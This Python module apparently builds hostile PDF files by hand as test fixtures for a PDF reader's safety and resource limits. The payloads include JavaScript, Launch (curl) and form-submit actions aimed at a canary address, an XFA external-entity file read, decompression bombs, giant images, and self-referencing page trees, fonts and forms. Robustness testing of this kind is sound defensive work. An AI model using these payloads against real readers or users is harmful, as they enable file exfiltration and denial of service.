"""Makers of PDF files that mean harm: each gives the bytes of one file, written by hand so that nothing mends it."""

import zlib
from collections.abc import Callable, Mapping

Maker = Callable[[str, str], bytes]
"""Takes the canary's http address and the path of the canary file."""

TEXT = "The hotline answers every child that calls it."
_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
_SHOW = f"BT /F1 11 Tf 72 700 Td ({TEXT}) Tj ET\n".encode()
_DEEP = 100_000
_BOMB = 64 << 20


def pdf(objects: Mapping[int, bytes], trailer: bytes = b"") -> bytes:
    """Write numbered objects as a PDF whose catalogue is object 1."""
    parts, offsets, place = [b"%PDF-1.7\n"], {}, 9
    for number, content in objects.items():
        offsets[number] = place
        parts.append(b"%d 0 obj\n%b\nendobj\n" % (number, content))
        place += len(parts[-1])
    last = max(objects)
    table = b"".join(
        b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 65535 f \n"
        for number in range(last + 1)
    )
    end = b"xref\n0 %d\n%btrailer\n<< /Size %d /Root 1 0 R %b >>\nstartxref\n%d\n%%%%EOF\n"
    return b"".join(parts) + end % (last + 1, table, last + 1, trailer, place)


def stream(content: bytes, entries: bytes = b"") -> bytes:
    """Write a stream object."""
    return b"<< /Length %d %b >>\nstream\n%b\nendstream" % (len(content), entries, content)


def one_page(
    content: bytes = _SHOW, page: bytes = b"", catalog: bytes = b"", more: Mapping[int, bytes] | None = None
) -> bytes:
    """Write a PDF of one page: `content` is its stream, the rest stands in its dictionaries; `more` begins at 10."""
    box = b"" if b"/MediaBox" in page else b"/MediaBox [0 0 595 842]"
    resources = b"" if b"/Resources" in page else b"/Resources << /Font << /F1 5 0 R >> >>"
    return pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R %b >>" % catalog,
            2: b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
            3: b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R %b %b %b >>" % (box, resources, page),
            4: content if content.startswith(b"<<") else stream(content),
            5: _FONT,
            **(more or {}),
        }
    )


def _many_pages(count: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % (number + 10) for number in range(count))
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"
    pages = {number + 10: page for number in range(count)}
    return pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Count %d /Kids [%b] >>" % (count, kids),
            **pages,
        }
    )


def _deep_page_tree(levels: int) -> bytes:
    nodes = {
        number + 10: b"<< /Type /Pages /Count 1 /Parent %d 0 R /Kids [%d 0 R] >>" % (number + 9, number + 11)
        for number in range(levels)
    }
    last = b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] >>" % (levels + 9)
    root = b"<< /Type /Pages /Count 1 /Kids [10 0 R] >>"
    return pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: root, **nodes, levels + 10: last})


def _image(entries: bytes, data: bytes) -> bytes:
    return one_page(
        b"q 595 0 0 842 0 0 cm /Im0 Do Q",
        b"/Resources << /XObject << /Im0 10 0 R >> >>",
        more={10: stream(data, b"/Type /XObject /Subtype /Image " + entries)},
    )


def _form(content: bytes, target: int) -> bytes:
    entries = b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /X %d 0 R >>"
    return stream(content, entries % target + b" /Font << /F1 5 0 R >> >>")


def _forms(targets: Mapping[int, int], calls: int = 1) -> bytes:
    content = _SHOW + b"/X Do " * calls
    return one_page(
        content,
        b"/Resources << /Font << /F1 5 0 R >> /XObject << /X 10 0 R >> >>",
        more={number: _form(content, target) for number, target in targets.items()},
    )


def _action(entries: str) -> bytes:
    action = f"<< /Type /Action {entries} >>".encode()
    return one_page(
        page=b"/AA << /O %b /C %b >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A %b >>]"
        % (action, action, action),
        catalog=b"/OpenAction %b /AA << /WC %b /WS %b >>" % (action, action, action),
    )


def _actions(address: str, file: str) -> dict[str, bytes]:
    script = f"app.launchURL('{address}/js'); this.submitForm('{address}/form'); util.readFileIntoStream('{file}');"
    return {
        "javascript": _action(f"/S /JavaScript /JS ({script.replace('(', chr(92) + '(').replace(')', chr(92) + ')')})"),
        "launch": _action(f"/S /Launch /F ({file}) /Unix << /F (/usr/bin/curl) /P ({address}/launch) >>"),
        "uri": _action(f"/S /URI /URI ({address}/uri)"),
        "submit_form": _action(f"/S /SubmitForm /F << /FS /URL /F ({address}/submit) >>"),
        "import_data": _action(f"/S /ImportData /F ({file})"),
        "go_to_remote": _action(f"/S /GoToR /F << /FS /URL /F ({address}/remote.pdf) >> /D [0 /Fit]"),
    }


def _external_stream(where: str) -> bytes:
    return one_page(stream(_SHOW, f"/F {where} /FFilter null".encode()), page=b"")


def _xfa(address: str, file: str) -> bytes:
    xml = (
        f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file://{file}"><!ENTITY b SYSTEM "{address}/xfa">]>'
        '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><t>&a;&b;</t></xdp:xdp>'
    )
    return one_page(catalog=b"/AcroForm << /Fields [] /XFA 10 0 R >>", more={10: stream(xml.encode())})


def _to_unicode(cmap: bytes) -> bytes:
    font = (
        b"<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /Identity-H "
        b"/DescendantFonts [11 0 R] /ToUnicode 12 0 R >>"
    )
    inner = (
        b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /X "
        b"/CIDSystemInfo << /Registry (Adobe) /Ordering (Identity) >> >>"
    )
    return one_page(
        b"BT /F1 11 Tf 72 700 Td <00410042004300440045> Tj ET",
        b"/Resources << /Font << /F1 10 0 R >> >>",
        more={10: font, 11: inner, 12: stream(cmap)},
    )


def _type3_of_itself() -> bytes:
    font = (
        b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [0.1 0 0 0.1 0 0] /FirstChar 65 /LastChar 65 "
        b"/Widths [9] /Encoding << /Differences [65 /A] >> /CharProcs << /A 11 0 R >> "
        b"/Resources << /Font << /F1 10 0 R >> >> >>"
    )
    glyph = stream(b"9 0 d0 BT /F1 9 Tf (AAAAAAAAAA) Tj ET")
    content = b"BT /F1 11 Tf 72 700 Td (AAAA) Tj ET"
    return one_page(content, b"/Resources << /Font << /F1 10 0 R >> >>", more={10: font, 11: glyph})


def _bomb(piece: bytes, size: int = _BOMB) -> bytes:
    packer = zlib.compressobj(9)
    block = piece * ((1 << 20) // len(piece))
    once = b"".join(packer.compress(block) for _ in range(size >> 20)) + packer.flush()
    return one_page(stream(zlib.compress(once), b"/Filter [/FlateDecode /FlateDecode]"))


def _outline_loop() -> bytes:
    more = {
        10: b"<< /Type /Outlines /First 11 0 R /Last 12 0 R /Count 2 >>",
        11: b"<< /Title (a) /Parent 10 0 R /Next 12 0 R /First 10 0 R >>",
        12: b"<< /Title (b) /Parent 10 0 R /Next 11 0 R /First 11 0 R >>",
    }
    return one_page(catalog=b"/Outlines 10 0 R", more=more)


def _name_tree_loop() -> bytes:
    tree = b"/Names << /EmbeddedFiles 10 0 R >> /PageLabels 10 0 R"
    return one_page(catalog=tree, more={10: b"<< /Kids [10 0 R 10 0 R] /Nums [0 << /S /r /St 2147483647 >>] >>"})


READ: Mapping[str, Maker] = {
    **{
        name: (lambda address, file, name=name: _actions(address, file)[name])  # type: ignore[misc]
        for name in ("javascript", "launch", "uri", "submit_form", "import_data", "go_to_remote")
    },
    "xfa": _xfa,
    "nested_arrays_beside_the_text": lambda *_: one_page(page=b"/Foo " + b"[" * _DEEP + b"]" * _DEEP),
    "external_stream_of_a_file": lambda _, file: _external_stream(f"({file})"),
    "external_stream_of_an_address": lambda address, _: _external_stream(f"<< /FS /URL /F ({address}/stream) >>"),
    "outline_loop": lambda *_: _outline_loop(),
    "name_tree_loop": lambda *_: _name_tree_loop(),
    "form_that_draws_itself": lambda *_: _forms({10: 10}),
    "forms_that_draw_each_other": lambda *_: _forms({10: 11, 11: 12, 12: 10}),
}
"""Files that hold a text, which must come out, and a trap, which must not spring."""

STOPPED: Mapping[str, Maker] = {
    "page_tree_of_100000": lambda *_: _many_pages(100_000),
    "page_tree_100000_deep": lambda *_: _deep_page_tree(_DEEP),
    "page_tree_that_lies": lambda *_: pdf(
        {1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Count 2000000000 /Kids [3 0 R] >>"}
    ),
    "page_tree_of_itself": lambda *_: pdf(
        {1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Count 4 /Kids [2 0 R 2 0 R] /Parent 2 0 R >>"}
    ),
    "cross_reference_loop": lambda *_: pdf({1: b"<< /Type /Catalog /Pages 1 0 R >>"}, b"/Prev 9 /XRefStm 9"),
    "image_of_900_megapixels": lambda *_: _image(
        b"/Width 30000 /Height 30000 /BitsPerComponent 1 /ColorSpace /DeviceGray /Filter /FlateDecode",
        zlib.compress(bytes(30000 * 3750), 1),
    ),
    "image_larger_than_memory": lambda *_: _image(
        b"/Width 2000000 /Height 2000000 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /FlateDecode",
        zlib.compress(bytes(1000)),
    ),
    "image_on_a_huge_page": lambda *_: _image(
        b"/Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray", b"x"
    ).replace(b"[0 0 595 842]", b"[0 0 1e9 1e9]"),
    "unpacks_to_spaces": lambda *_: _bomb(b" "),
}
"""Files that hold nothing to read, or nothing that can be read within the limits."""

EITHER: Mapping[str, Maker] = {
    "huge_media_box": lambda *_: one_page(page=b"/MediaBox [0 0 1e30 1e30]"),
    "backward_media_box": lambda *_: one_page(page=b"/MediaBox [595 842 -2147483648 -99999999999999999999]"),
    "empty_media_box": lambda *_: one_page(page=b"/MediaBox [0 0 0 0]"),
    "media_box_without_numbers": lambda *_: one_page(page=b"/MediaBox [/a (b) null << >>]"),
    "text_far_outside": lambda *_: one_page(
        b"BT /F1 1e30 Tf 1e30 -1e30 Td (far) Tj 1e-30 0 0 1e-30 0 0 Tm (near) Tj ET"
    ),
    "nested_arrays_in_the_content": lambda *_: one_page(_SHOW + b"[" * _DEEP + b"]" * _DEEP + b" TJ"),
    "nested_dictionaries": lambda *_: one_page(page=b"/Foo " + b"<< /A " * _DEEP + b"1" + b" >>" * _DEEP),
    "saved_states": lambda *_: one_page(b"q " * 1_000_000 + _SHOW),
    "forms_that_multiply": lambda *_: _forms({number: number + 1 for number in range(10, 40)}, calls=10),
    "forms_1000_deep": lambda *_: _forms({number: number + 1 for number in range(10, 1010)}),
    "unpacks_to_text": lambda *_: _bomb(_SHOW, 16 << 20),
    "cmap_of_all_numbers": lambda *_: _to_unicode(
        b"1 begincodespacerange <00000000> <FFFFFFFF> endcodespacerange "
        b"1 beginbfrange <00000000> <FFFFFFFF> <0041> endbfrange"
    ),
    "cmap_of_itself": lambda *_: _to_unicode(b"/X usecmap " * 100_000),
    "length_of_itself": lambda *_: one_page(b"<< /Length 4 0 R >>\nstream\n" + _SHOW + b"\nendstream"),
    "200000_lines": lambda *_: one_page(_SHOW + b"10 10 m 500 500 l S 20 20 30 30 re S\n" * 100_000),
    "type3_glyph_of_itself": lambda *_: _type3_of_itself(),
    "only_the_mark": lambda *_: b"%PDF-1.7\n",
}
"""Files of which some readers make something: a document or one typed error is right."""
